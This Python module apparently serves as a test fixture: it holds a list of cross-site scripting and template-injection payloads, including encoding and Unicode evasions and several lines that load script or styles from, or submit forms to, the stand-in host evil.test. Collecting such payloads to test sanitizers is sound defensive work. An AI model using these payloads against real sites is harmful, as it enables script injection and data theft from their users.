"""Texts that try to become markup, script or requests; one a line, each a known way in."""

from __future__ import annotations

_LINES = r'''
<script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</mark><script>alert(1)</script>
</svg><script>alert(1)</script>
</style><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=https://evil.test/x.js></script>
<script src="//evil.test/x.js"></script>
<script>import('https://evil.test/x.js')</script>
<script type=module>alert(1)</script>
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src="https://evil.test/pixel.png">
<img srcset="https://evil.test/a.png 1x">
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">click</math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="https://evil.test/"></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">click</a>
<a href="&#106;avascript:alert(1)">click</a>
<a href="java&Tab;script:alert(1)">click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>
<a href="https://evil.test/" ping="https://evil.test/ping">click</a>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<video poster="https://evil.test/poster.png"></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<meta http-equiv="refresh" content="0;url=https://evil.test/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<base href="https://evil.test/">
<link rel=stylesheet href="https://evil.test/x.css">
<link rel=prefetch href="https://evil.test/x">
<style>@import 'https://evil.test/x.css';</style>
<style>*{background:url(https://evil.test/x.png)}</style>
<div style="background:url(https://evil.test/x.png)">x</div>
<div style="width:expression(alert(1))">x</div>
<form action="https://evil.test/"><button>Read</button></form>
<button formaction="javascript:alert(1)">Read</button>
<input type=image src=x onerror=alert(1)>
<template shadowrootmode=open><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><svg/onload=alert(1)>">
<plaintext><script>alert(1)</script>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
{{7*7}}{{config}}{% raw %}{{ request.__class__.__mro__ }}{% endraw %}
${alert(1)}#{alert(1)}<%= alert(1) %>
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
" autofocus onfocus=alert(1) x="
` onmouseover=alert(1) `
javascript:alert(1)
data:text/html,<script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
'''  # noqa: RUF001 - full-width brackets are the point of the last line

PAYLOADS = (
    *(line for line in _LINES.splitlines() if line),
    "<scr\u200bipt>alert(1)</script>",
    "<script\u2028>alert(1)</script\u2028>",
    "<img src=x\u00a0onerror=alert(1)>",
    "\u202e<script>alert(1)</script>\u202c",
    "<svg\x0conload=alert(1)>",
)
